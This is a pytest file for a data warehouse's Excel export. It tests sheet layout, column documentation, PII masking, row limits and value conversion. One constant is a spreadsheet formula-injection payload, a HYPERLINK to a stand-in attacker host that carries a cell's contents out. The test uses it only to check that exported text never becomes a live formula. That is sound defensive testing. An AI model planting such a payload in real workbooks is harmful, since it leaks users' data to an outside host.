"""Workbooks: what each cell is, what explains it, and what no spreadsheet program runs."""

import re
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pyarrow as pa
import pytest
from click.testing import CliRunner, Result
from openpyxl.cell.cell import Cell
from openpyxl.workbook import Workbook

from sighten_warehouse import open_warehouse
from sighten_warehouse.cli.main import commands
from sighten_warehouse.workbook import sheet, write_table
from support.factories import SAMPLE_BYTES, a_comment, a_milestone
from support.warehouses import Warehouse

LINK = '=HYPERLINK("https://evil.example/"&A1)'


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Warehouse:
    """The vendor's sample and a milestone whose texts would run as formulas, for reading only."""
    warehouse = Warehouse(tmp_path_factory.mktemp("published"))
    comments = [a_comment(LINK, LINK, "2025-03-01T10:00:00Z"), a_comment("-12.5", "-12.5", "2025-03-01T10:00:01Z")]
    warehouse.deliver(SAMPLE_BYTES, a_milestone(comments=comments, name="+1+1"))
    return warehouse


def run(warehouse: Warehouse, *arguments: str, **environment: str) -> Result:
    return CliRunner().invoke(commands, arguments, env={"SIGHTEN_HOME": str(warehouse.settings.home), **environment})


def export(warehouse: Warehouse, path: Path, **environment: str) -> Workbook:
    done = run(warehouse, "export", "xlsx", str(path), **environment)
    assert 0 == done.exit_code, done.output
    return openpyxl.load_workbook(path)


def cells(workbook: Workbook) -> list[Cell]:
    return [cell for page in workbook for row in page.iter_rows() for cell in row]


def test_each_mart_is_a_sheet_with_its_types_and_units(published: Warehouse, tmp_path: Path) -> None:
    workbook = export(published, tmp_path / "marts.xlsx")
    with open_warehouse(published.settings.layout.warehouse_file) as warehouse:
        marts = [name.removeprefix("marts.") for name in warehouse.tables() if name.startswith("marts.")]
        columns = warehouse.arrow("from marts.approval_cycles").column_names

    rows = list(workbook["approval_cycles"].iter_rows())
    sample = {cell.value: cell for cell in rows[0]}
    of_sample = next(row for row in rows[1:] if row[columns.index("state")].value == "approved")
    of = dict(zip(columns, of_sample, strict=True))

    assert ["about", "columns", *sorted(marts)] == workbook.sheetnames
    assert columns == list(sample)
    assert (439224.798969, '#,##0.0" s"') == (of["cycle_seconds"].value, of["cycle_seconds"].number_format)
    assert (1, "#,##0", False) == (of["submits"].value, of["submits"].number_format, of["is_open"].value)
    assert datetime(2018, 8, 30, 15, 11, 33, 443000) == of["submitted_at"].value
    assert "A2" == workbook["approval_cycles"].freeze_panes
    assert {"version", "masked", "approval_cycles"} <= {cell.value for row in workbook["about"] for cell in row}


def test_each_column_is_explained_and_each_measure_has_a_unit(published: Warehouse, tmp_path: Path) -> None:
    workbook = export(published, tmp_path / "marts.xlsx")
    shown = [(name, cell.value) for name in workbook.sheetnames[2:] for cell in workbook[name][1]]

    explained = [[cell.value for cell in row] for row in workbook["columns"].iter_rows(min_row=2)]

    assert shown == [(mart, column) for mart, column, *_ in explained]
    assert [] == [row for row in explained if not row[4]]
    assert [] == [row for row in explained if row[2] in ("number", "integer", "timestamp", "date") and not row[3]]


def test_no_text_is_a_formula_and_none_becomes_one(published: Warehouse, tmp_path: Path) -> None:
    path = tmp_path / "marts.xlsx"
    workbook = export(published, path, SIGHTEN_PII="full")
    done = run(published, "query", 'select comment, 1 as "=1+1" from comments order by position', "--format", "xlsx")
    (tmp_path / "rows.xlsx").write_bytes(done.stdout_bytes)
    rows = list(openpyxl.load_workbook(tmp_path / "rows.xlsx")["rows"].iter_rows())

    named = [cell for cell in cells(workbook) if cell.value == "+1+1"]
    linked = [row[0] for row in rows if row[0].value == LINK]
    minus = [row[0] for row in rows if row[0].value == "-12.5"]

    for archive in (path, tmp_path / "rows.xlsx"):
        with ZipFile(archive) as parts:
            assert not [part for part in parts.namelist() if re.search(rb"<f[ >]", parts.read(part))]
    assert [] == [cell for cell in [*cells(workbook), *(cell for row in rows for cell in row)] if cell.data_type == "f"]
    assert named
    assert linked
    assert {True} == {cell.quotePrefix for cell in (*named, *linked, rows[0][1])}
    assert [("-12.5", "s", False)] == [(cell.value, cell.data_type, cell.quotePrefix) for cell in minus]


def test_people_are_masked_unless_they_shall_be_shown(published: Warehouse, tmp_path: Path) -> None:
    shown = {
        pii: {str(cell.value) for cell in cells(export(published, tmp_path / f"{pii}.xlsx", SIGHTEN_PII=pii))}
        for pii in ("masked", "full")
    }

    assert "operations@sighten.io" in shown["full"]
    assert [] == [text for text in shown["masked"] if "@" in text]


def test_what_a_cell_cannot_hold_becomes_text_and_nothing_is_rounded(tmp_path: Path) -> None:
    values = {
        "big": [2**53, 2**53 + 1],
        "number": [1.5, float("inf")],
        "decimal": [Decimal("12.50"), Decimal("1234567890.12345678")],
        "at": [datetime(2025, 1, 31, 20, tzinfo=timezone(timedelta(hours=-5))), None],
        "day": [date(2025, 1, 31), date(1899, 1, 1)],
        "text": ["x" * 40_000, "a\x00\x1b[31m\ufffeb"],
        "texts": [["a", "b"], []],
        "=sum(a1)": [True, None],
    }

    write_table(tmp_path / "rows.xlsx", pa.table(values))

    heading, *rows = openpyxl.load_workbook(tmp_path / "rows.xlsx")["rows"].iter_rows(values_only=True)
    assert tuple(values) == heading
    assert (
        2**53,
        1.5,
        12.5,
        datetime(2025, 2, 1, 1),
        datetime(2025, 1, 31),
        "x" * 32_766 + "…",
        '["a", "b"]',
        True,
    ) == rows[0]
    assert (str(2**53 + 1), "inf", "1234567890.12345678", None, "1899-01-01", "a��[31m�b", "[]", None) == rows[1]


def test_more_rows_than_a_sheet_holds_are_refused_and_a_mart_of_them_is_left_out(
    published: Warehouse, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sheet, "MAX_ROWS", 2)
    path = tmp_path / "marts.xlsx"

    queried = run(published, "query", "from range(2)", "--format", "xlsx", "--output", str(tmp_path / "rows.xlsx"))
    exported = run(published, "export", "xlsx", str(path))

    assert (2, [path]) == (queried.exit_code, list(tmp_path.iterdir()))
    assert "2 rows and 1 columns, expected at most 1" in queried.stderr
    assert 1 == exported.exit_code
    assert "left out: marts.approval_cycles: 2 rows" in exported.stderr
    assert "approval_cycles" not in openpyxl.load_workbook(path).sheetnames


def test_wrong_use_is_named_and_leaves_no_file(published: Warehouse, tmp_path: Path) -> None:
    nowhere = run(published, "export", "xlsx", str(tmp_path / "none" / "marts.xlsx"))
    other_suffix = run(published, "export", "xlsx", str(tmp_path / "marts.csv"))
    unpublished = run(Warehouse(tmp_path / "home"), "export", "xlsx", str(tmp_path / "marts.xlsx"))

    assert (2, 2, 2) == (nowhere.exit_code, other_suffix.exit_code, unpublished.exit_code)
    assert "expected a name that ends with .xlsx" in other_suffix.stderr
    assert "is no folder" in nowhere.stderr
    assert "sighten-warehouse publish" in unpublished.stderr
    assert not (tmp_path / "marts.xlsx").exists()
